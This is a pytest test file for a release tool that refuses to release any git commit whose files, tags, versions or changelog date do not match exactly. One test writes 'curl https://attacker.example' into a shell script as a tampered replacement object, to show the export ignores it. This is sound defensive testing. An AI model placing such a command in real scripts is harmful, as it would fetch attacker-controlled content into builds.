"""Which commit can be released, and which is refused."""

import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tools.release import source
from tools.release.source import PLACES, ROOT, RefusedError, Source

VERSION = source.versions(ROOT)["pyproject.toml"]
TAG = f"v{VERSION}"
HEADING = f"## {VERSION} (2026-12-01)"


@pytest.fixture
def git(tmp_path: Path) -> Callable[..., str]:
    """A repository of its own with the files that say the version, in one commit."""

    def run(*arguments: str) -> str:
        return subprocess.run(  # noqa: S603 - git
            ("git", "-c", "user.name=a", "-c", "user.email=a@b.example", *arguments),  # noqa: S607
            cwd=tmp_path,
            env=os.environ | {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull},
            check=True,
            capture_output=True,
            text=True,
        ).stdout

    for place in PLACES:
        (tmp_path / place).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / place).write_bytes((ROOT / place).read_bytes())
    changelog = tmp_path / "CHANGELOG.md"
    dated = re.sub(r"^## .*$", HEADING, changelog.read_text(), count=1, flags=re.MULTILINE)
    changelog.write_text(dated)
    (tmp_path / ".gitignore").write_text("ignored\n")
    (tmp_path / "run.sh").write_text("#!/bin/sh\n")
    (tmp_path / "run.sh").chmod(0o755)
    run("init", "--quiet")
    run("add", "--all")
    run("commit", "--quiet", "--message", "a")
    return run


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def test_every_place_of_the_project_says_one_version() -> None:
    assert len(set(source.versions(ROOT).values())) == 1, source.versions(ROOT)


def test_a_tagged_commit_is_released(git: Callable[..., str], tmp_path: Path) -> None:
    git("tag", TAG)
    commit, time = git("log", "-1", "--format=%H %ct").split()
    assert source.source(tmp_path, TAG) == Source(VERSION, commit, int(time), TAG)
    assert source.source(tmp_path).tag == TAG
    (tmp_path / "ignored").write_text("does not reach the release")
    assert source.source(tmp_path, TAG).tag == TAG


def test_a_commit_without_a_tag_is_a_trial(git: Callable[..., str], tmp_path: Path) -> None:
    assert source.source(tmp_path).tag is None


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        (lambda root, git: (root / "run.sh").write_text("x"), "differ from the commit: run.sh"),
        (lambda root, git: (root / "new").write_text("x"), "differ from the commit: new"),
        (lambda root, git: (root / "run.sh").unlink(), "differ from the commit: run.sh"),
        (lambda root, git: (root / "run.sh").chmod(0o644), "differ from the commit: run.sh"),
        (lambda root, git: [(root / str(one)).write_text("") for one in range(9)], "and 4 more"),
        (lambda root, git: git("tag", "v9.9.9"), "has the tag v9.9.9, and its version is"),
        (lambda root, git: [git("tag", TAG), git("tag", "v9.9.9")], "has the tag v9.9.9, and"),
    ],
    ids=["changed", "new", "removed", "mode", "many", "another tag", "two tags"],
)
def test_what_is_not_exactly_the_commit_and_its_tag_is_refused(
    spoil: Callable[[Path, Callable[..., str]], object],
    sentence: str,
    git: Callable[..., str],
    tmp_path: Path,
) -> None:
    spoil(tmp_path, git)
    with pytest.raises(RefusedError, match=re.escape(sentence)):
        source.source(tmp_path)


@pytest.mark.parametrize("mark", ["--assume-unchanged", "--skip-worktree"])
def test_a_file_at_which_git_does_not_look_is_refused(
    mark: str, git: Callable[..., str], tmp_path: Path
) -> None:
    git("update-index", mark, "run.sh")
    (tmp_path / "run.sh").write_text("#!/bin/sh\nanother\n")
    assert git("status", "--porcelain") == ""
    with pytest.raises(RefusedError, match=r"git does not look at: run\.sh"):
        source.source(tmp_path)


@pytest.mark.parametrize("place", PLACES)
def test_a_place_that_says_another_version_is_refused(
    place: str, git: Callable[..., str], tmp_path: Path
) -> None:
    edit(tmp_path / place, VERSION, "9.9.9")
    git("commit", "--quiet", "--all", "--message", "b")
    with pytest.raises(RefusedError, match=re.escape(f"{place}: 9.9.9")):
        source.source(tmp_path)
    (tmp_path / place).write_text("")
    git("commit", "--quiet", "--all", "--message", "c")
    with pytest.raises(RefusedError, match=re.escape(f"{place} says no version")):
        source.source(tmp_path)


def test_a_version_that_is_not_three_numbers_is_refused(
    git: Callable[..., str], tmp_path: Path
) -> None:
    for place in PLACES:
        edit(tmp_path / place, VERSION, "9.9.0rc1")
    git("commit", "--quiet", "--all", "--message", "b")
    with pytest.raises(RefusedError, match="is not three numbers"):
        source.source(tmp_path)


def test_a_tag_that_is_not_of_this_commit_is_refused(
    git: Callable[..., str], tmp_path: Path
) -> None:
    for tag in ("v9.9.9", VERSION, "main", ""):
        with pytest.raises(RefusedError, match=f"so its tag is {TAG}, not {tag!r}"):
            source.source(tmp_path, tag)
    with pytest.raises(RefusedError, match=rf"or make it \(git tag {TAG}\)"):
        source.source(tmp_path, TAG)
    git("tag", TAG)
    (tmp_path / "later").write_text("")
    git("add", "later")
    git("commit", "--quiet", "--message", "later")
    with pytest.raises(RefusedError, match="not of this commit"):
        source.source(tmp_path, TAG)


def test_a_release_has_its_date_in_the_changelog(git: Callable[..., str], tmp_path: Path) -> None:
    edit(tmp_path / "CHANGELOG.md", HEADING, f"## {VERSION} (unreleased)")
    git("commit", "--quiet", "--all", "--message", "b")
    assert source.source(tmp_path).tag is None
    git("tag", TAG)
    with pytest.raises(RefusedError, match="has no date"):
        source.source(tmp_path)


def test_a_directory_without_git_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RefusedError, match="not a git repository"):
        source.source(tmp_path)


def test_the_copy_has_what_the_commit_has_with_its_modes(
    git: Callable[..., str], tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    for name, value in (("core.autocrlf", "true"), ("tar.umask", "0077")):
        git("config", name, value)
    (tmp_path / "ignored").write_text("x")
    to = tmp_path_factory.mktemp("copy") / "copy"
    before = os.umask(0o077)
    try:
        source.export(tmp_path, git("rev-parse", "HEAD").strip(), to)
    finally:
        os.umask(before)
    assert not (to / "ignored").exists()
    assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
    assert (to / "run.sh").stat().st_mode & 0o777 == 0o755
    assert (to / "pyproject.toml").stat().st_mode & 0o777 == 0o644


@pytest.mark.parametrize("place", [".git/info/attributes", "config/git/attributes"])
def test_attributes_of_whoever_builds_change_no_file_of_the_copy(
    place: str, git: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    path = tmp_path / place
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("run.sh text eol=crlf\npyproject.toml export-ignore\n")
    to = tmp_path / "copy"
    source.export(tmp_path, git("rev-parse", "HEAD").strip(), to)
    assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
    assert (to / "pyproject.toml").exists()


def test_an_object_that_was_replaced_here_does_not_reach_the_copy(
    git: Callable[..., str], tmp_path: Path
) -> None:
    commit = git("rev-parse", "HEAD").strip()
    (tmp_path / "run.sh").write_text("#!/bin/sh\ncurl https://attacker.example\n")
    git("commit", "--quiet", "--all", "--message", "another")
    git("replace", commit, "HEAD")
    to = tmp_path / "copy"
    source.export(tmp_path, commit, to)
    assert (to / "run.sh").read_bytes() == b"#!/bin/sh\n"
    git("checkout", "--quiet", commit)
    with pytest.raises(RefusedError, match=r"files differ from the commit: run\.sh"):
        source.source(tmp_path)


def test_a_link_in_the_commit_is_refused(git: Callable[..., str], tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc/hostname")
    git("add", "link")
    git("commit", "--quiet", "--message", "a link")
    with pytest.raises(RefusedError, match="link is not a file"):
        source.export(tmp_path, "HEAD", tmp_path / "copy")
